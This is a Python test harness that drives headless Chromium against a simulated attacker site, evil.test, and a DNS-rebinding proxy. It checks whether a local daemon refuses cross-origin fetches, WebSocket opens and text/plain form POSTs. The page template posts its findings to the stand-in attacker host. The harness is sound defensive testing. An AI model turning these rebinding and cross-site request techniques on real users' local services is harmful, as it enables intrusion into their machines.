"""A real browser, and a site of an attacker's that it visits.

The site's name leads to this machine, as that of a site does whose owner rebinds it: the browser asks it on the
daemon's own port, gets the attacker's page first, and from then on what the daemon says to requests for that name."""
import contextlib
import http.server
import json
import os
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import time
import urllib.parse

PROGRAM = shutil.which("chromium-headless-shell") or shutil.which("chromium")
WAIT_S = 120
EVIL, REBOUND = "evil.test", "rebound.test"


class Site(http.server.BaseHTTPRequestHandler):
    """Serves pages by their path, and takes what they report."""

    protocol_version = "HTTP/1.1"

    def do_GET(self):
        page = self.server.pages.get(urllib.parse.urlsplit(self.path).path)
        body = (page or "").encode()
        self.send_response(200 if page else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")  # the next request goes where the name leads then
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        text = self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(204)
        self.end_headers()
        self.server.reports[urllib.parse.urlsplit(self.path).path] = json.loads(text)

    def log_message(self, *_):
        pass


class Rebinder:
    """On another loopback address, with the daemon's port: the attacker's page under /page, and the daemon for the rest.
    Bytes go through as they are, so the daemon hears what the browser says after the name was rebound."""

    def __init__(self, address, port, site, daemon):
        self.site, self.daemon = site, daemon
        self.socket = socket.create_server((address, port))
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                client, _ = self.socket.accept()
            except OSError:
                return
            threading.Thread(target=self.carry, args=[client], daemon=True).start()

    def carry(self, client):
        with client, contextlib.suppress(OSError):
            first = client.recv(65536)
            words = first.split(b" ", 2)
            mine = len(words) > 1 and words[1].startswith(b"/page")
            with socket.create_connection(self.site if mine else self.daemon) as other:
                other.sendall(first)
                threading.Thread(target=self.copy, args=[client, other], daemon=True).start()
                self.copy(other, client)

    @staticmethod
    def copy(source, sink):
        with contextlib.suppress(OSError):
            while piece := source.recv(65536):
                sink.sendall(piece)
        with contextlib.suppress(OSError):
            sink.shutdown(socket.SHUT_WR)

    def close(self):
        self.socket.close()


# attempt(NAME, FUNCTION) notes what a function came to: its value, or how it failed.
PAGE = """<!doctype html><html><body><script>
const results = {}, D = %(parameters)s;
const late = ms => new Promise((_, no) => setTimeout(() => no(new Error("late")), ms));
async function attempt(name, f) {
    try { results[name] = await Promise.race([f(), late(30000)]); }
    catch (e) { results[name] = "refused: " + e.name; }
}
const text = async r => r.type + " " + r.status + " " + await r.text();
const socket = url => new Promise((yes, no) => {
    const s = new WebSocket(url);
    s.onopen = () => { s.close(); yes("open"); };
    s.onerror = () => no(new Error("closed"));
});
const form = (url, name, value) => new Promise(yes => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random();
    document.body.appendChild(frame);
    const f = document.body.appendChild(document.createElement("form"));
    f.method = "POST"; f.enctype = "text/plain"; f.action = url; f.target = frame.name;
    const field = f.appendChild(document.createElement("input"));
    field.name = name; field.value = value;
    frame.onload = () => yes("sent");
    f.submit();
});
(async () => {
%(attempts)s
    await fetch(%(report)s, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
})();
</script></body></html>"""


def page(attempts, parameters, report):
    return PAGE % {"parameters": json.dumps(parameters), "attempts": attempts, "report": json.dumps(report)}


class Browser:
    def __init__(self, daemon_url):
        where = urllib.parse.urlsplit(daemon_url)
        self.port = where.port
        self.site = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site)
        self.site.daemon_threads = True
        self.site.pages, self.site.reports = {}, {}
        threading.Thread(target=self.site.serve_forever, daemon=True).start()
        self.rebinder = Rebinder("127.0.0.2", self.port, self.site.server_address, (where.hostname, self.port))
        self.profile = tempfile.mkdtemp(prefix="atoll-browser.")

    def close(self):
        self.rebinder.close()
        self.site.shutdown()
        self.site.server_close()
        shutil.rmtree(self.profile, ignore_errors=True)

    def origin(self, host):
        return f"http://{host}:{self.port if host == REBOUND else self.site.server_address[1]}"

    def visit(self, host, attempts, **parameters):
        """Opens a page of that host which makes the attempts; what each came to, by name."""
        path = f"/page{len(self.site.pages)}"
        self.site.pages[path] = page(attempts, parameters, self.report(path))
        return self.open(self.origin(host) + path, path)

    def report(self, path):
        return self.origin(EVIL) + path

    def open(self, url, report):
        """Opens a page, and waits until it has sent what it has found to report(path)."""
        assert PROGRAM, "there is no chromium-headless-shell"
        command = [PROGRAM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                   "--disable-background-networking", "--disable-component-update", "--disable-sync",
                   "--disable-dev-shm-usage", f"--user-data-dir={self.profile}",
                   f"--host-resolver-rules=MAP {EVIL} 127.0.0.1,MAP {REBOUND} 127.0.0.2,MAP *.{REBOUND} 127.0.0.2,"
                   "MAP *.localhost 127.0.0.1", "--remote-debugging-port=0", url]
        log = os.path.join(self.profile, "log")
        with open(log, "wb") as file:
            process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=file, stderr=file, start_new_session=True)
        try:
            deadline = time.monotonic() + WAIT_S
            while report not in self.site.reports:
                assert time.monotonic() < deadline and process.poll() is None, open(log, errors="replace").read()[-2000:]
                time.sleep(0.1)
            return self.site.reports.pop(report)
        finally:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
